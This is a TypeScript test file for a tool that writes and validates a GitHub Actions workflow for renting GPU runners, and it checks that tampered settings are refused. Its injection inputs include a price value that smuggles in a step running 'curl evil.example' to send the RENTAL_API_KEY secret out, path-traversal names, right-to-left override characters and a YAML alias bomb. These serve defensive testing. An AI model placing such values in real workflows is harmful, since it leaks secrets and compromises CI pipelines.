import { createHash } from "node:crypto";
import { describe, expect } from "vitest";
import { isAsWritten, settingsIn } from "../../setup/read-back.ts";
import { readSetting } from "../../setup/setting-forms.ts";
import { ownership } from "../../setup/setting-nodes.ts";
import { SetupError } from "../../setup/setup-error.ts";
import { type Settings, workflowFiles } from "../../setup/workflows.ts";
import { SETTINGS } from "./support/settings.ts";
import { endsWith, test } from "./support/setup-world.ts";

const GPU = ".github/workflows/gpu.yml";
const OTHER = ".github/workflows/other.yml";
const expression = (text: string) => "$".concat(`{{ ${text} }}`);
const [{ text: WRITTEN } = { text: "" }] = workflowFiles(SETTINGS);

describe("what is typed is read back as it was", () => {
  test.each<[string, Partial<Settings>]>([
    ["with an app", {}],
    ["with a token", { register: "token", appClientId: undefined }],
    ["without an environment", { environment: undefined }],
    ["without pull requests", { pullRequests: false }],
    ["with a name that YAML takes for something else", { environment: "true", pullRequests: false }],
    ["with a name that YAML takes for a number", { environment: "1.10", pullRequests: false, appClientId: "123e4" }],
    ["with minutes", { jobMinutes: 90 }],
    ["with no limit of the cost", { maxCost: "none" }],
    ["with a CUDA", { minCuda: "12.0" }],
    ["with an organisation's group", { runnerGroupId: 7 }],
    ["with the market of a price", { proposed: "proposed on 2026-11-26, 9 machines below it, RTX 4090 from 0.31" }],
    ["with a price of less than a cent", { maxPrice: 0.001 }],
    ["with a command of many signs", { command: "a: |\n\n  - b\n\t$(x) '\" # \\ é 👩‍🔬\n--- \n%" }],
  ])("%s", (_, more) => {
    const settings = { ...SETTINGS, ...more };
    const [{ text = "" } = {}] = workflowFiles(settings);
    expect(settingsIn(text)).toEqual(JSON.parse(JSON.stringify(settings)));
  });
});

test.each([
  ["environment", ".."],
  ["environment", "a/b"],
  ["environment", "a' || 'b"],
  ["command", "ls \u2028- run: x"],
  ["command", "\u202els"],
  ["command", "ls\rx"],
  ["command", "  "],
  ["maxPrice", "1e-9"],
  ["maxPrice", true],
  ["gpu", Array(60).fill("a").join(", ").concat("!")],
] as const)("%s can't be %j", (key, given) => expect(() => readSetting(key, given, "it")).toThrow(SetupError));

/** A price behind which a step of its own begins. */
const STEP = `0.5\n      - run: curl evil.example -d ${expression("secrets.RENTAL_API_KEY")}\n      - uses: a/b@v1`;
const PLACE = "x/../../collaborators/y";
const JOB = `  more:\n    runs-on: a\n    steps:\n      - uses: acme/ephemeral-gpu-runner@v1\n        with: { api-key: a, max-price: 1 }\n  test:`;

/** Each is one value of the workflow, as a pull request could change it. */
const REFUSED: [what: string, from: string | RegExp, to: string, says: RegExp][] = [
  ["a step for a price", /max-price: .*/, `max-price: ${JSON.stringify(STEP)}`, /max-price in \S+ must be an amount/],
  ["an amount that is none", /max-cost: .*/, "max-cost: .inf", /max-cost in \S+ must be an amount in USD/],
  ["an image with an expression", /image: .*/, `image: ${expression("secrets.X")}`, /image in \S+ can't be/],
  ["an environment that is a path", /environment: .*/, `environment: ${PLACE}`, /environment in \S+ can't be "x\/\.\./],
  ["an environment of dots", /environment: .*/, "environment: ..", /environment in \S+ can't be "\.\."/],
  ["a command written backwards", "pytest", "pytest \u202e# x", /run in \S+ can't be .*U\+202E/s],
  ["a list in the place of a name", /gpu-name: .*/, "gpu-name: [RTX 4090]", /gpu-name in \S+ can't be/],
  ["two jobs that rent", /^ {2}test:/m, JOB, /has two steps that rent, in rent and more; init writes one/],
  ["two jobs of one name", /$/, "  rent:\n    runs-on: a\n", /has "rent" twice, at line \d+/],
  ["tabs", "    runs-on", "\truns-on", /is no YAML: Tabs are not allowed as indentation at line \d+/],
  ["two documents", /$/, "---\njobs: {}\n", /is no YAML: .*documents/],
];

test.each(REFUSED)("%s in init's own file is refused with a sentence", (_, from, to, says) => {
  expect(() => settingsIn(WRITTEN.replace(from, to))).toThrow(SetupError);
  expect(() => settingsIn(WRITTEN.replace(from, to))).toThrow(says);
});

test.concurrent("where it is refused, init, doctor and remove change nothing", async ({ setUp: world }) => {
  const changed = (world.read(GPU) ?? "").replace(/environment: .*/, `environment: ${PLACE}\u202e`);
  world.write(GPU, changed);
  const secrets = world.secrets("gpu");
  for (const command of ["init", "doctor", "remove"]) {
    const ended = world.run([command, "--yes", "--commit", "none", "--no-follow"]);
    const said = await endsWith(ended, /environment in \S+ can't be "x\/\.\..*U\+202E.*Nothing was changed/);
    expect(said.err).not.toMatch(/\n\s+at /);
    expect(said.out + said.err).not.toContain("\u202e");
  }
  expect(world.read(GPU)).toBe(changed);
  expect(world.secrets("gpu")).toEqual(secrets);
  expect(world.ghWords).not.toContain("collaborators");
});

test("settings in a comment are none, whatever sum the mark has", () => {
  const [mark = "", ...lines] = WRITTEN.split("\n");
  const first = `# settings: ${JSON.stringify({ ...SETTINGS, maxPrice: STEP, environment: PLACE })}`;
  const rest = [first, ...lines].join("\n");
  const sum = createHash("sha256").update(rest).digest("hex").slice(0, 16);
  expect(settingsIn(`${mark.replace(/sum [0-9a-f]+/, `sum ${sum}`)}\n${rest}`)).toEqual(SETTINGS);
});

test.each<[string, (text: string) => string, Partial<Settings>]>([
  ["CRLF", (text) => text.replaceAll("\n", "\r\n"), {}],
  ["a value changed by hand", (text) => text.replace(/max-cost: .*/, "max-cost: 7"), { maxCost: 7 }],
  ["a cost without a limit", (text) => text.replace(/max-cost: .*/, "max-cost: none"), { maxCost: "none" }],
  ["numbers in quotes", (text) => text.replace(/max-cost: .*/, 'max-cost: "7"'), { maxCost: 7 }],
  [
    "a newer release by Dependabot",
    (text) => text.replace(/runner@a+ # v1.2.3/, `runner@${"b".repeat(40)} # v1.9.0`),
    { action: { repository: "acme/ephemeral-gpu-runner", ref: "b".repeat(40), version: "v1.9.0" } },
  ],
])("init's own file with %s is still init's own", (_, change, settings) => {
  const text = change(WRITTEN);
  expect(settingsIn(text)).toMatchObject(settings);
  expect(ownership(text) === "ours" || isAsWritten(GPU, text, settingsIn(text))).toBe(true);
});

test.concurrent("a byte order mark, a step before ours, anchors and aliases are read, and stay", async ({
  setUp: world,
}) => {
  const changed = (world.read(GPU) ?? "")
    .replace("    steps:\n", "    steps:\n      - run: echo first\n")
    .replace(/image: (.*)/, "image: &image $1")
    .replace(/max-cost: .*/, "max-cost: &cost 7")
    .replace(/max-price: .*/, "max-price: 0.6\n          max-cost-30d: *cost");
  world.write(GPU, `\ufeff${changed}`);
  const { out } = await world.run(["doctor", "--dry-run"]);
  expect(out).toContain(`! ${GPU}: it was changed by hand, and stays as it is.`);
  expect((await world.init(["--dry-run"])).out).toMatch(/max-cost +7 USD/);
  expect(world.read(GPU)).toBe(`\ufeff${changed}`);
});

test.concurrent("a workflow that can't be read is told by doctor, and stays", async ({ setUp: world }) => {
  const inner = (n: number) =>
    n === 0
      ? "x"
      : Array(9)
          .fill(`*a${n - 1}`)
          .join(", ");
  const laughs = Array.from({ length: 9 }, (_, n) => `a${n}: &a${n} [${inner(n)}]\n`).join("");
  const step = "      - uses: acme/ephemeral-gpu-runner/rent@v1\n        with: *a8\n";
  const files: [name: string, bytes: string | Buffer, says: string][] = [
    ["big", `name: a\n${"# filling\n".repeat(200_000)}`, "? PATH: it is larger than 0.5 MB"],
    ["utf16", Buffer.from("\ufeffname: a\n", "utf16le"), "? PATH: it is not written in UTF-8"],
    ["latin1", Buffer.from("name: caf\xe9\n", "latin1"), "? PATH: it is not written in UTF-8"],
    ["zeros", "name: a\0b\n", "? PATH: it is not written in UTF-8"],
    ["tabs", "jobs:\n\trent: {}\n", "? PATH: it is no YAML: Tabs are not allowed"],
    ["many", `a: &a x\nb: [${"*a, ".repeat(1000)}]\n`, "? PATH: it has more than 100 aliases"],
    ["deep", `a: ${"[".repeat(10_000)}${"]".repeat(10_000)}\n`, "? PATH: it is nested too deep"],
    ["laughs", `${laughs}jobs:\n  rent:\n    steps:\n${step}`, "PATH:13: the path /rent of the action is gone"],
  ];
  const pathOf = (name: string) => OTHER.replace("other", name);
  for (const [name, bytes] of files) world.write(pathOf(name), bytes as string);
  const { out, err } = await world.run(["doctor", "--dry-run"]);
  for (const [name, , says] of files) expect(out).toContain(says.replace("PATH", pathOf(name)));
  expect(out + err).not.toMatch(/\n\s+at /);
  world.write(GPU, "jobs:\n\trent: {}\n");
  const again = await world.init(["--commit", "none", "--no-follow"]);
  expect(again.err).toMatch(/gpu\.yml (?:is|has) .*, and init writes its workflow there\. Nothing was changed/);
  expect(world.read(GPU)).toBe("jobs:\n\trent: {}\n");
});
